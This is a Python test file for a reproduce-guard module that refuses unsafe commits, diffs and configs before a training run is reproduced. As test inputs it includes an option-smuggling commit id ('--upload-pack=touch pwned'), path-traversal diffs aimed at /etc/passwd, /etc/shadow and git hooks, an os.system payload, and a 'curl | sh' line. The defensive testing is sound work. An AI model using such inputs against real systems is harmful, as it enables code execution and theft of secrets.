"""What `scalelab reproduce` refuses before it runs anything (scalelab.reproduce.guard): unknown
commits, diffs whose hash changed, diffs that create symlinks, change modes or reach outside the
worktree, code changes without --yes, and a params.yaml that is a symlink."""

from __future__ import annotations

import hashlib
import subprocess
from pathlib import Path

import pytest

from scalelab.reproduce.guard import (
    CannotReproduce,
    check_commit,
    check_patch,
    confirm,
    parse_diff,
    summary,
    verify_diff,
    write_file,
)
from scalelab.reproduce.run import write_params

GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@e"]


def git(repo: Path, *args: str) -> str:
    return subprocess.run([*GIT, *args], cwd=repo, capture_output=True, text=True, check=True).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository with a committed params.yaml, a script and a library module."""
    repo = tmp_path / "repo"
    (repo / "libs/pkg").mkdir(parents=True)
    (repo / "params.yaml").write_text("train:\n  lr: 0.1\n")
    (repo / "run.sh").write_text("echo hi\n")
    (repo / "libs/pkg/mod.py").write_text("X = 1\n")
    (repo / "notes.txt").write_text("a\nb\nc\n")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    return repo


def diff_of(repo: Path) -> bytes:
    """The working tree's `git diff HEAD --binary`, as training records it."""
    git(repo, "add", "-A")
    return subprocess.run(["git", "diff", "--cached", "--binary"], cwd=repo, capture_output=True, check=True).stdout


def refused(blob: bytes, *words: str) -> str:
    with pytest.raises(CannotReproduce) as err:
        parse_diff(blob, "dirty.diff")
    message = str(err.value)
    assert err.value.exit_status == 2 and all(w in message for w in words), message
    assert "\n" not in message, message
    return message


# --- the commit ---------------------------------------------------------------------------------


@pytest.mark.parametrize("commit", ["", "unknown", "abc123", "A" * 40, "--upload-pack=touch pwned" + "0" * 15])
def test_a_commit_that_is_not_40_hex_is_refused(repo, commit):
    with pytest.raises(CannotReproduce, match="must be a 40-hex commit id") as err:
        check_commit(repo, commit)
    assert repr(commit) in str(err.value)
    assert not (repo / "pwned").exists()


def test_an_unknown_commit_says_to_update_the_branch_and_never_to_fetch_it(repo):
    missing = "0123456789abcdef0123456789abcdef01234567"
    with pytest.raises(CannotReproduce, match="git pull") as err:
        check_commit(repo, missing)
    assert "fetch" not in str(err.value)  # a fetch by id takes a commit pushed to any fork
    blob = git(repo, "rev-parse", "HEAD:params.yaml").strip()  # an object, but not a commit
    with pytest.raises(CannotReproduce, match="is not a commit"):
        check_commit(repo, blob)
    head = git(repo, "rev-parse", "HEAD").strip()
    assert check_commit(repo, head) == head


# --- the recorded hash ----------------------------------------------------------------------------


def test_a_diff_whose_sha256_differs_from_the_recorded_one_is_refused(tmp_path):
    patch = tmp_path / "dirty.diff"
    patch.write_text("diff --git a/x b/x\n")
    good = hashlib.sha256(patch.read_bytes()).hexdigest()
    assert verify_diff({"provenance.dirty.diff.sha256": good}, "dirty.diff", patch) == patch.read_bytes()
    patch.write_text("diff --git a/y b/y\n")  # changed in the store after training
    with pytest.raises(CannotReproduce, match="sha256 .* but provenance.dirty.diff.sha256 = " + good):
        verify_diff({"provenance.dirty.diff.sha256": good}, "dirty.diff", patch)
    with pytest.raises(CannotReproduce, match="no recorded sha256"):
        verify_diff({}, "dirty.diff", patch)
    with pytest.raises(CannotReproduce, match="missing from the run"):
        verify_diff({"provenance.dirty.diff.sha256": good}, "dirty.diff", None)
    with pytest.raises(CannotReproduce, match="left out of the store"):
        verify_diff({"provenance.dirty.diff.omitted_bytes": "9000000"}, "dirty.diff", None)
    assert verify_diff({}, "untracked.diff", None) is None


# --- what a diff may change -----------------------------------------------------------------------


def test_an_ordinary_diff_is_read_with_its_line_counts(repo):
    (repo / "notes.txt").write_text("a\nB\nc\nd\n")
    (repo / "new dir").mkdir()
    (repo / "new dir/ünï.txt").write_text("1\n2\n")
    git(repo, "mv", "run.sh", "start.sh")
    (repo / "data.bin").write_bytes(bytes(range(256)))
    blob = diff_of(repo)
    changes = {c.path: c for c in parse_diff(blob, "dirty.diff")}
    assert set(changes) == {"notes.txt", "new dir/ünï.txt", "start.sh", "data.bin"}
    assert (changes["notes.txt"].added, changes["notes.txt"].removed) == (2, 1)
    assert changes["new dir/ünï.txt"].kind == "new" and changes["new dir/ünï.txt"].added == 2
    assert changes["start.sh"].kind == "renamed" and changes["start.sh"].old_path == "run.sh"
    assert changes["data.bin"].binary
    patch = repo.parent / "dirty.diff"
    patch.write_bytes(blob)
    check_patch(repo, patch, list(changes.values()))  # git reads the same files


def test_a_diff_that_replaces_params_yaml_with_a_symlink_is_refused(repo, tmp_path):
    (repo / "params.yaml").unlink()
    (repo / "params.yaml").symlink_to(tmp_path / "outside.yaml")
    refused(diff_of(repo), "params.yaml", "symlink", "120000")


def test_a_diff_that_changes_an_existing_symlink_is_refused(repo, tmp_path):
    (repo / "link").symlink_to("notes.txt")
    git(repo, "add", "link")
    git(repo, "commit", "-qm", "a link")
    (repo / "link").unlink()
    (repo / "link").symlink_to("/etc")
    refused(diff_of(repo), "link", "symlink")


def test_a_diff_that_changes_a_file_mode_is_refused(repo):
    (repo / "run.sh").chmod(0o755)
    refused(diff_of(repo), "run.sh", "old mode 100644", "mode changes are refused")


def test_a_new_file_with_an_odd_mode_is_refused():
    blob = b"diff --git a/sub b/sub\nnew file mode 160000\nindex 0000000..1234567\n--- /dev/null\n+++ b/sub\n"
    refused(blob, "sub", "mode 160000")


def outside(path_a: str, path_b: str) -> bytes:
    return (
        f"diff --git {path_a} {path_b}\nnew file mode 100644\nindex 0000000..3e75765\n"
        f"--- /dev/null\n+++ {path_b}\n@@ -0,0 +1 @@\n+pwned\n"
    ).encode()


@pytest.mark.parametrize(
    "path, named",
    [
        ("b/../outside.txt", "'../outside.txt' is outside the worktree"),
        ("b/libs/../../outside.txt", "'libs/../../outside.txt' is outside the worktree"),
        ("b//etc/cron.d/x", "'/etc/cron.d/x' is outside the worktree"),
        ("b/.git/hooks/post-checkout", "'.git/hooks/post-checkout' is outside the worktree"),
        ("b/x/.GIT/config", "'x/.GIT/config' is outside the worktree"),
        ("b/..\\outside.txt", "'..\\\\outside.txt' is outside the worktree"),
        ('"b/\\056\\056/outside.txt"', "'../outside.txt' is outside the worktree"),
        ("/etc/passwd", "'/etc/passwd' is not allowed: a path must start with b/"),
    ],
)
def test_a_diff_that_touches_a_path_outside_the_worktree_is_refused(path, named):
    refused(outside(path.replace("b/", "a/", 1), path), "dirty.diff", named)


@pytest.mark.parametrize(
    "name, line",
    [
        ("rename", "rename from notes.txt\nrename to ../../outside.txt\n"),
        ("copy", "copy from /etc/shadow\ncopy to stolen.txt\n"),
    ],
)
def test_a_rename_or_copy_outside_the_worktree_is_refused(name, line):
    blob = f"diff --git a/notes.txt b/moved.txt\nsimilarity index 100%\n{line}".encode()
    refused(blob, "outside the worktree")


@pytest.mark.parametrize(
    "blob",
    [
        b"--- a/notes.txt\n+++ b/notes.txt\n@@ -1 +1 @@\n-a\n+b\n",  # a traditional patch: no git header
        b"hello\ndiff --git a/x b/x\n",
        b"diff --git a/x b/x\nindex 1..2 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n+c\n",  # hunk overruns
        b"diff --git a/x b/x\nindex 1..2 100644\n--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n-a\n+b\n",  # truncated
        b"diff --git a/x b/x\nweird header\n",
    ],
)
def test_anything_the_reader_does_not_understand_is_refused(blob):
    refused(blob, "dirty.diff")


def test_a_path_that_goes_through_a_symlink_in_the_worktree_is_refused(repo, tmp_path):
    (repo / "notes.txt").write_text("changed\n")
    blob = diff_of(repo)
    git(repo, "reset", "-q", "--hard")
    (repo / "notes.txt").unlink()
    (repo / "notes.txt").symlink_to(tmp_path / "elsewhere")
    patch = tmp_path / "dirty.diff"
    patch.write_bytes(blob)
    with pytest.raises(CannotReproduce, match="notes.txt is or goes through a symlink"):
        check_patch(repo, patch, parse_diff(blob, "dirty.diff"), repo)


# --- what is printed and confirmed ----------------------------------------------------------------


def test_the_summary_names_each_file_and_its_line_counts(repo):
    (repo / "notes.txt").write_text("a\nB\nc\nd\n")
    (repo / "libs/pkg/mod.py").write_text("X = 2\n")
    text = summary("dirty.diff", parse_diff(diff_of(repo), "dirty.diff"))
    lines = text.splitlines()
    assert lines[0] == "dirty.diff: 2 file(s), +3 -2 lines (sha256 verified)", text
    assert "modified libs/pkg/mod.py  +1 -1  (code)" in lines[1], text
    assert "modified notes.txt  +2 -1" in lines[2] and "(code)" not in lines[2], text


@pytest.mark.parametrize("path", ["libs/pkg/mod.py", "experiments/mlp.py", "sitecustomize.py", "yaml.so"])
def test_a_code_change_needs_yes_or_a_terminal_confirmation(repo, path):
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text("import os\n")
    changes = parse_diff(diff_of(repo), "dirty.diff")
    with pytest.raises(CannotReproduce, match=f"change code \\({path}\\): .*pass --yes") as err:
        confirm(changes, yes=False, interactive=False)
    assert err.value.exit_status == 2
    with pytest.raises(CannotReproduce, match="pass --yes"):
        confirm(changes, yes=False, interactive=True, ask=lambda _: "n")
    confirm(changes, yes=False, interactive=True, ask=lambda _: "y")
    confirm(changes, yes=True, interactive=False)


def test_a_data_only_change_needs_no_confirmation(repo):
    (repo / "notes.txt").write_text("other\n")
    confirm(parse_diff(diff_of(repo), "dirty.diff"), yes=False, interactive=False)


# --- params.yaml ----------------------------------------------------------------------------------


class Client:
    """The two MlflowClient calls write_params makes, over a local config.json."""

    def __init__(self, folder: Path):
        self.folder = folder

    def list_artifacts(self, run_id, path=None):
        return [type("Artifact", (), {"path": "config.json"})()]

    def download_artifacts(self, run_id, name, dest):
        return str(self.folder / name)


def run_of(config: dict, **tags: str):
    """A run as write_params reads it: logged params (flattened, as strings) and tags."""
    from scalelab.config import flatten

    data = type("Data", (), {"params": {k: str(v) for k, v in flatten(config).items()}, "tags": tags})()
    return type("Run", (), {"info": type("Info", (), {"run_id": "run"})(), "data": data})()


def test_write_params_refuses_a_symlinked_params_yaml(tmp_path):
    (tmp_path / "store").mkdir()
    (tmp_path / "store/config.json").write_text('{"train": {"lr": 0.1, "launcher": "local"}}')
    worktree, target = tmp_path / "wt", tmp_path / "outside.yaml"
    worktree.mkdir()
    target.write_text("untouched\n")
    (worktree / "params.yaml").symlink_to(target)
    run = run_of({"train": {"lr": 0.1, "launcher": "local"}})
    with pytest.raises(CannotReproduce, match="params.yaml is or goes through a symlink"):
        write_params(Client(tmp_path / "store"), run, worktree, tmp_path)
    assert target.read_text() == "untouched\n"
    (worktree / "params.yaml").unlink()
    write_params(Client(tmp_path / "store"), run, worktree, tmp_path)
    # run here, checkpoints on this disk (never the original's in the store), SLURM folder under out
    expected = f"train:\n  lr: 0.1\n  launcher: local\n  checkpoint_dir: ''\nslurm:\n  folder: {tmp_path / 'slurm'}\n"
    assert (worktree / "params.yaml").read_text() == expected


def test_write_file_refuses_a_symlinked_parent_folder(tmp_path):
    worktree, elsewhere = tmp_path / "wt", tmp_path / "elsewhere"
    worktree.mkdir()
    elsewhere.mkdir()
    (worktree / "conf").symlink_to(elsewhere)
    with pytest.raises(CannotReproduce, match="conf/params.yaml is or goes through a symlink in the worktree"):
        write_file(worktree, "conf/params.yaml", "x: 1\n")
    assert not (elsewhere / "params.yaml").exists()


# --- what reproduce trusts (issue 32) -----------------------------------------------------------


def test_a_dangling_commit_and_a_fork_like_ref_are_untrusted_and_need_consent(repo):
    from scalelab.reproduce.guard import untrusted_commit

    head = git(repo, "rev-parse", "HEAD").strip()
    assert untrusted_commit(repo, head) is None  # on this repository's own branch
    (repo / "libs/pkg/mod.py").write_text("import os; os.system('touch pwned')\n")
    git(repo, "add", "-A")
    dangling = git(repo, "commit-tree", git(repo, "write-tree").strip(), "-p", head, "-m", "evil").strip()
    git(repo, "update-ref", "refs/remotes/fork/main", dangling)  # a fetched fork's branch
    git(repo, "update-ref", "refs/pull/7/head", dangling)  # a fetched pull request
    shown = untrusted_commit(repo, dangling)
    assert shown is not None and "libs/pkg/mod.py" in shown and "evil" in shown, shown
    with pytest.raises(CannotReproduce, match=f"the commit {dangling[:12]} is on no trusted branch or tag"):
        confirm([], yes=False, interactive=False, commit=dangling)
    confirm([], yes=True, interactive=False, commit=dangling)  # --yes: the user read the log
    git(repo, "config", "--add", "scalelab.trustedRef", "refs/remotes/fork")  # trusted by choice
    assert untrusted_commit(repo, dangling) is None


def test_with_an_origin_only_its_default_branch_and_tags_are_trusted(repo, tmp_path):
    from scalelab.reproduce.guard import untrusted_commit

    origin = tmp_path / "origin.git"
    git(repo, "clone", "-q", "--bare", str(repo), str(origin))
    git(repo, "remote", "add", "origin", str(origin))
    git(repo, "fetch", "-q", "origin")
    git(repo, "remote", "set-head", "origin", "main")
    (repo / "notes.txt").write_text("local only\n")
    git(repo, "commit", "-qam", "unpushed")
    local = git(repo, "rev-parse", "HEAD").strip()
    assert untrusted_commit(repo, local) is not None  # on a local branch only: shown and asked
    git(repo, "tag", "v1")
    assert untrusted_commit(repo, local) is None  # a tag is trusted


@pytest.mark.parametrize("path", ["slurm/profiles/local.yaml", "run.sh", "dvc.yaml", "Makefile"])
def test_every_file_but_data_and_docs_counts_as_code(repo, path):
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text('setup: ["curl -s https://example.invalid/x | sh"]\n')
    changes = parse_diff(diff_of(repo), "dirty.diff")
    assert "(code)" in summary("dirty.diff", changes)
    with pytest.raises(CannotReproduce, match="pass --yes"):
        confirm(changes, yes=False, interactive=False)


def test_a_terminal_escape_in_a_file_name_is_printed_escaped(repo):
    name = "notes\x1b[2K\x1b[1A.txt"  # would erase the line above on a terminal
    (repo / name).write_text("x\n")
    text = summary("untracked.diff", parse_diff(diff_of(repo), "untracked.diff"))
    assert "\x1b" not in text and "notes\\x1b[2K\\x1b[1A.txt" in text, text


@pytest.mark.parametrize(
    "change, key",
    [
        ({"train": {"launcher": "slurm"}}, "train.launcher"),
        ({"slurm": {"folder": "/home/alice/.ssh"}}, "slurm.folder"),
        ({"train": {"lr": 0.2}}, "train.lr"),
    ],
)
def test_a_tampered_config_json_is_refused(tmp_path, change, key):
    import json

    logged = {"train": {"lr": 0.1, "launcher": "local"}, "slurm": {"folder": "results/slurm"}}
    tampered = {k: {**v, **change.get(k, {})} for k, v in logged.items()}
    (tmp_path / "store").mkdir()
    (tmp_path / "store/config.json").write_text(json.dumps(tampered))
    (tmp_path / "wt").mkdir()
    with pytest.raises(CannotReproduce, match=f"config.json sets {key} = .* the stored config was changed"):
        write_params(Client(tmp_path / "store"), run_of(logged), tmp_path / "wt", tmp_path)
    assert not (tmp_path / "wt/params.yaml").exists()
    text = json.dumps(logged, indent=2, sort_keys=True)
    (tmp_path / "store/config.json").write_text(text.replace("0.1", "0.10"))  # same values, other bytes
    digest = hashlib.sha256(text.encode()).hexdigest()
    with pytest.raises(CannotReproduce, match="provenance.config.sha256"):
        write_params(
            Client(tmp_path / "store"),
            run_of(logged, **{"provenance.config.sha256": digest}),
            tmp_path / "wt",
            tmp_path,
        )
